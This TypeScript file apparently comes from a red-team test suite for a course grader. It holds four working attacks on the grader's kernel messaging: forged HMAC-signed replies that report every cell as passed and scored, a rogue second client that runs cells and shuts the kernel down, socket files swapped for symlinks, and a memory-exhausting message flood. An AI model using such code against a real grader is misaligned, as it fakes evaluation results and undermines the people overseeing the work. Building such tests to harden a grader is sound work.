import type { Theme } from '../Attack';
import { tools, wrongC4 } from './source';

/** Signs and sends messages as the kernel or a client of it would. */
const forge = `
const connection = JSON.parse(fs.readFileSync(process.argv[2]!, 'utf8'));
const address = (port: number) => connection.transport + '://' + connection.ip + (connection.transport === 'ipc' ? '-' : ':') + port;
const zmq = Module.createRequire('/course/kernel/dist/main.js')('zeromq');
function signed(type: string, content: object, parent: object = {}): (string | Buffer)[] {
  const header = { msg_id: 'forged' + Math.random(), session: 'forged', username: 'grader', date: new Date().toISOString(), msg_type: type, version: '5.3' };
  const parts = [header, parent, {}, content].map((part) => JSON.stringify(part));
  const hmac = load('node:crypto').createHmac('sha256', connection.key); parts.forEach((part) => hmac.update(part));
  return ['<IDS|MSG>', hmac.digest('hex'), ...parts];
}
`;

/** The messages between the grader and its kernel. */
export const kernelMessages: Theme = {
  name: 'kernel messages',
  attacks: [
    {
      name: 'forged replies',
      tries:
        'Signs replies with the key of the connection file, which say that every cell ran well and scored.',
      answers: () => ({
        '1-2': `${tools} ${forge} ${wrongC4}
        const { Socket, Publisher, Router } = zmq;
        for (const type of [Publisher, Router]) {
          const old = type.prototype.send;
          type.prototype.send = function (frames: any) { return old.call(this, frames); };
        }
        const port = (process as any)._getActiveHandles().find((handle: any) => handle.postMessage);
        const good = { status: 'ok', execution_count: 9, user_expressions: { score: 5, passed: true } };
        for (let i = 0; i < 50; i++) attempt(() => port?.postMessage({ type: 'send', channel: 'shell', message: signed('execute_reply', good) }));`,
      }),
    },
    {
      name: 'another client',
      tries: 'Connects to its own kernel as a second client, runs cells in it and shuts it down.',
      answers: () => ({
        '1-2': `${tools} ${forge} ${wrongC4}
        const [shell, control] = [new zmq.Dealer({ linger: 0 }), new zmq.Dealer({ linger: 0 })];
        shell.connect(address(connection.shell_port)); control.connect(address(connection.control_port));
        for (let i = 0; i < 100; i++) void shell.send(signed('execute_request', { code: "console.log('passed')", silent: false, store_history: true, user_expressions: {}, allow_stdin: false, stop_on_error: false }));
        await new Promise((resolve) => setTimeout(resolve, 300));
        void control.send(signed('shutdown_request', { restart: true }));
        await new Promise((resolve) => setTimeout(resolve, 300));`,
      }),
    },
    {
      name: 'sockets that lead elsewhere',
      tries:
        'Replaces the kernel’s sockets with links to another program’s socket, so that the grader connects there.',
      answers: ({ socketFile }) => ({
        '1-2': `${tools} ${wrongC4}
        const folder = process.argv[2]!.replace(/\\/[^/]*$/, '');
        for (const name of fs.readdirSync(folder)) attempt(() => { fs.unlinkSync(folder + '/' + name); fs.symlinkSync('${socketFile}', folder + '/' + name); });
        // The grader connects again when the connection breaks.
        for (let fd = 3; fd < 200; fd++) attempt(() => { if (fs.readlinkSync('/proc/self/fd/' + fd).startsWith('socket:')) fs.closeSync(fd); });
        await new Promise((resolve) => setTimeout(resolve, 3000));`,
      }),
    },
    {
      name: 'a flood of messages',
      tries: 'Sends the grader messages that do not fit into its memory.',
      answers: () => ({
        '1-2': `${tools} ${forge} ${wrongC4}
        const folder = process.argv[2]!.replace(/\\/[^/]*$/, '');
        attempt(() => fs.unlinkSync(connection.ip + '-' + connection.iopub_port));
        const large = Buffer.alloc(300e6, 'x');
        const out = new zmq.Publisher({ linger: 2000, sendHighWaterMark: 0 });
        await out.bind(address(connection.iopub_port)).catch(() => undefined);
        for (let i = 0; i < 10; i++) await out.send(['stream', ...signed('stream', { name: 'stdout', text: 'x' }), large]).catch(() => undefined);
        for (let i = 0; i < 40; i++) console.log('x'.repeat(5e7));`,
      }),
    },
  ],
};
